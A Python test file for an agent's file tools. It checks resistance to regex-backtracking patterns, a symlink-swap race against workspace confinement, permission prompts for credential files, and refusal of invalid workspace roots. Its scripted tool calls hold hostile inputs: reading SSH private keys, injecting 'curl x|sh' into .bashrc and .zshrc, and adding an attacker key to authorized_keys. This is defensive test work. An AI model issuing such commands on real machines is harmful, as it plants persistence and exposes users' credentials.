"""Issue 10 on the file tools, through the real launcher: hostile patterns never stall the
agent, a directory swapped for a symlink mid-search never leaks, credential files ask even
inside the root, and roots the agent cannot serve are refused with -32602."""

import json
import os
import subprocess
import sys
import time

import pytest

from term2acp.testing.harness import selected
from tests.support.scripts import write_script
from tests.support.clock import within

SECRET = "-----BEGIN OPENSSH PRIVATE KEY----- b3BlbnNzaC1rZXktdjEAAAAA"
HANG = [{"hang": True}]


def call(name, **arguments):
    return {"tool_call": {"name": name, "arguments": arguments}}


def reject(_request):
    return selected("reject")


def statuses(updates):
    final = {}
    for u in updates:
        if u["sessionUpdate"] == "tool_call_update" and "status" in u:
            final[u["toolCallId"]] = u
    return list(final.values())


def texts(update):
    return "".join(c["content"]["text"] for c in update.get("content") or ()
                   if c.get("type") == "content")


def cpu_seconds(pid):
    """User + system CPU time of ``pid`` so far (from /proc/<pid>/stat)."""
    with open(f"/proc/{pid}/stat") as fh:
        fields = fh.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def settles(pid, within, window=0.5, busy=0.15):
    """True once ``pid`` used at most ``busy`` s of CPU over a ``window`` s stretch,
    found before ``within`` s have passed (a bounded poll, not a fixed sleep)."""
    deadline = time.monotonic() + within
    start, used = time.monotonic(), cpu_seconds(pid)
    while time.monotonic() < deadline:
        time.sleep(0.05)
        if time.monotonic() - start >= window:
            now = cpu_seconds(pid)
            if now - used <= busy:
                return True
            start, used = time.monotonic(), now
    return False


# ---------------------------------------------------------------- 1: hostile patterns
def long_lines(workspace):
    for i in range(12):
        with open(os.path.join(workspace, f"long{i}.txt"), "w") as fh:
            fh.write("a" * (1 << 20) + "\n")


def long_names(workspace):
    for d in range(20):
        os.mkdir(os.path.join(workspace, f"d{d}"))
        for i in range(100):
            name = f"{i:03}" + "a" * 240
            with open(os.path.join(workspace, f"d{d}", name), "w") as fh:
                fh.write("nothing to see\n")


def hostile_gitignore(workspace):
    long_names(workspace)
    with open(os.path.join(workspace, ".gitignore"), "w") as fh:
        fh.write("*a" * 60 + "*b\n" + "(a+)+b\n")


ATTACKS = {
    "grep": (long_lines, call("grep", pattern="(a+)+b")),
    "glob": (long_names, call("glob", pattern="*a" * 40 + "*b")),
    "gitignore": (hostile_gitignore, call("grep", pattern="TODO")),
}


@pytest.mark.acp_process
@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_hostile_patterns_never_stall_the_agent(started, workspace, attack):
    make, attack_call = ATTACKS[attack]
    make(workspace)
    agent, sid = started([[attack_call] * 40, HANG])
    agent.prompt_async(sid, "search")
    # the first hostile search returns (before the fix it never did: the hub was pinned)
    agent.wait_update("tool_call_update", status="completed", timeout=30)
    listed = agent.request("session/list", {}, timeout=5)  # answered while the turn runs
    assert [s["sessionId"] for s in listed["result"]["sessions"]] == [sid]
    cancelled_at = time.monotonic()
    agent.notify("session/cancel", {"sessionId": sid})
    idle = agent.wait_update(state="idle", timeout=within(5))
    assert idle["stopReason"] == "cancelled"
    assert settles(agent.proc.pid, within=within(2.5) - (time.monotonic() - cancelled_at))
    done = [u for u in statuses([m["params"]["update"] for m in agent.messages
                                 if m.get("method") == "session/update"])]
    assert done and all(u["status"] in ("completed", "cancelled") for u in done)
    agent.close()


@pytest.mark.acp_process
def test_one_long_search_answers_requests_and_cancels_mid_call(started, workspace):
    for i in range(16):  # 32 MiB of one-line files: seconds of (bounded, paced) RE2 work
        with open(os.path.join(workspace, f"q{i}.txt"), "w") as fh:
            fh.write("q" * ((2 << 20) - 1) + "\n")
    agent, sid = started([[call("grep", pattern=r"\w{1000}x\w{300}0")], HANG])
    agent.prompt_async(sid, "search")
    agent.wait_update("tool_call_update", status="in_progress", timeout=30)
    listed = agent.request("session/list", {}, timeout=5)  # served during the one call
    assert [s["sessionId"] for s in listed["result"]["sessions"]] == [sid]
    cancelled_at = time.monotonic()
    agent.notify("session/cancel", {"sessionId": sid})
    idle = agent.wait_update(state="idle", timeout=within(5))
    assert idle["stopReason"] == "cancelled"
    [grep] = statuses([m["params"]["update"] for m in agent.messages
                       if m.get("method") == "session/update"])
    assert grep["status"] == "cancelled"  # ended inside the search, not after it
    assert settles(agent.proc.pid, within=within(2.5) - (time.monotonic() - cancelled_at))
    agent.close()


def test_unsupported_regex_syntax_is_a_clear_failed_call(started, workspace):
    with open(os.path.join(workspace, "a.txt"), "w") as fh:
        fh.write("abab\n")
    agent, sid = started([[call("grep", pattern=r"(ab)\1")], [{"text": "ok"}]])
    _, updates, idle = agent.prompt(sid, "go")
    [failed] = statuses(updates)
    assert failed["status"] == "failed"
    assert r"a backreference (\1) is not supported" in texts(failed)
    assert idle["params"]["update"]["stopReason"] == "end_turn"
    agent.close()


# ---------------------------------------------------------------- 2: swaps at the time of use
FLIPPER = """
import os, sys, time
d, outside, flag = sys.argv[1:4]
end = time.monotonic() + 60
while os.path.exists(flag) and time.monotonic() < end:
    os.rename(d, d + ".real")
    os.symlink(outside, d)
    time.sleep(0.002)
    os.unlink(d)
    os.rename(d + ".real", d)
    time.sleep(0.002)
"""


def test_a_directory_flipping_to_a_symlink_never_leaks(started, workspace, tmp_path):
    outside = tmp_path / "ssh"
    outside.mkdir()
    (outside / "id_rsa").write_text(SECRET + "\n")
    os.makedirs(os.path.join(workspace, "d", "sub"))
    with open(os.path.join(workspace, "d", "id_rsa"), "w") as fh:
        fh.write("inside decoy\n")
    for i in range(300):  # walked before d: widens the gap between listing d and entering it
        with open(os.path.join(workspace, f"a{i:03}.txt"), "w") as fh:
            fh.write("filler\n")
    flag = tmp_path / "flipping"
    flag.write_text("")
    calls = [call("grep", pattern="PRIVATE|decoy"), call("grep", pattern="PRIVATE", path="d"),
             call("list_directory", path="d"), call("glob", pattern="**/id_rsa")] * 15
    agent, sid = started([calls, [{"text": "done"}]])
    flipper = subprocess.Popen([sys.executable, "-c", FLIPPER, os.path.join(workspace, "d"),
                                str(outside), str(flag)])
    try:
        _, updates, idle = agent.prompt(sid, "look", timeout=120, on_request=reject)
    finally:
        flag.unlink()
        flipper.wait(10)
    assert idle["params"]["update"]["stopReason"] == "end_turn"
    assert len(statuses(updates)) == len(calls)
    wire = json.dumps(agent.messages)
    assert "PRIVATE KEY" not in wire and "b3BlbnNzaC1rZXkt" not in wire
    assert str(outside) + "/id_rsa" not in wire
    agent.close()


# ---------------------------------------------------------------- 3: credential files
@pytest.fixture
def user_home(tmp_path):
    home = tmp_path / "user"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(SECRET + "\n")
    (home / ".bashrc").write_text("export GITHUB_TOKEN=ghp_bashrc_token\n")
    (home / "project").mkdir()
    (home / "project" / "main.py").write_text("print('PRIVATE thoughts')\n")
    return os.path.realpath(home)


DIRECT = [
    call("read_file", path=".ssh/id_rsa"),
    call("list_directory", path=".ssh"),
    call("edit_file", path=".bashrc",
         edits=[{"old_text": "export", "new_text": "curl x|sh; export"}]),
    call("create_file", path=".ssh/authorized_keys", content="ssh-ed25519 AAAA attacker\n"),
    call("create_file", path=".zshrc", content="curl x | sh\n"),
    call("grep", pattern="PRIVATE", path=".ssh"),
]


def test_credential_files_in_a_home_workspace_ask_and_reject_writes_nothing(spawn, tmp_path,
                                                                            user_home):
    walks = [call("grep", pattern="PRIVATE|ghp_"), call("glob", pattern="**/*")]
    agent = spawn(script=write_script(tmp_path, [DIRECT + walks, [{"text": "done"}]]),
                  env={"HOME": user_home})
    agent.initialize()
    sid = agent.new_session(user_home)
    asked = []
    _, updates, idle = agent.prompt(sid, "go", timeout=30,
                                    on_request=lambda m: asked.append(m) or reject(m))
    assert len(asked) == len(DIRECT)  # every direct access asked, none of the walks did
    titles = [m["params"]["subject"]["toolCall"]["title"] for m in asked]
    assert all("credential or shell start-up file" in t for t in titles)
    done = statuses(updates)
    assert [u["status"] for u in done] == ["failed"] * len(DIRECT) + ["completed"] * 2
    grep, glob = texts(done[-2]), texts(done[-1])
    assert grep.startswith("project/main.py:1: print('PRIVATE thoughts')")
    assert "[skipped 2 credential or shell start-up files" in grep
    assert "id_rsa" not in glob and ".bashrc" not in glob.split("\n[")[0]
    wire = json.dumps(agent.messages)
    assert "b3BlbnNzaC1rZXkt" not in wire
    # the edit's diff preview goes to the user in the permission request, never to the model
    shown = json.dumps([m for m in agent.messages
                        if m.get("method") != "session/request_permission"])
    assert "ghp_bashrc_token" not in shown
    assert sorted(os.listdir(os.path.join(user_home, ".ssh"))) == ["id_rsa"]
    assert not os.path.exists(os.path.join(user_home, ".zshrc"))
    with open(os.path.join(user_home, ".bashrc")) as fh:
        assert fh.read() == "export GITHUB_TOKEN=ghp_bashrc_token\n"
    agent.close()


def test_a_session_grant_never_covers_a_credential_file(spawn, tmp_path, user_home):
    read = call("read_file", path=".ssh/id_rsa")
    agent = spawn(script=write_script(tmp_path, [[read], [{"text": "1"}], [read], [{"text": "2"}]]),
                  env={"HOME": user_home})
    agent.initialize()
    sid = agent.new_session(user_home)
    asked = []
    _, updates, _ = agent.prompt(sid, "one", on_request=lambda m: asked.append(m)
                                 or selected("allow-folder-session"))
    assert len(asked) == 1 and SECRET in texts(statuses(updates)[0])
    _, updates, _ = agent.prompt(sid, "two", on_request=lambda m: asked.append(m) or reject(m))
    assert len(asked) == 2  # asked again despite the folder grant
    assert statuses(updates)[0]["status"] == "failed"
    agent.close()


# ---------------------------------------------------------------- roots
def test_root_slash_is_refused_at_new_and_resume(agent):
    response = agent.request("session/new", {"cwd": "/"})
    assert response["error"]["code"] == -32602
    assert "the workspace root cannot be /" in response["error"]["message"]
    response = agent.request("session/resume", {"sessionId": "s-1", "cwd": "/"})
    assert response["error"]["code"] == -32602
    assert "the workspace root cannot be /" in response["error"]["message"]
    assert agent.request("session/list", {})["result"]["sessions"] == []
    agent.close()


def test_non_utf8_workspace_name_is_refused_precisely(agent, tmp_path):
    raw = os.fsencode(tmp_path) + b"/caf\xe9"
    os.mkdir(raw)
    response = agent.request("session/new", {"cwd": os.fsdecode(raw)})  # sent as \\udce9
    assert response["error"]["code"] == -32602
    assert "caf\\xe9' contains bytes that are not valid UTF-8" in response["error"]["message"]
    assert agent.request("session/list", {})["result"]["sessions"] == []
    agent.close()


def test_a_lone_surrogate_in_a_prompt_does_not_fail_the_turn(started):
    agent, sid = started([[{"text": "fine"}]])
    _, _, idle = agent.prompt(sid, "caf\udce9 \ud800 title")
    assert idle["params"]["update"]["stopReason"] == "end_turn"
    [row] = agent.request("session/list", {})["result"]["sessions"]
    assert row["title"] == "caf\ufffd \ufffd title"
    agent.close()
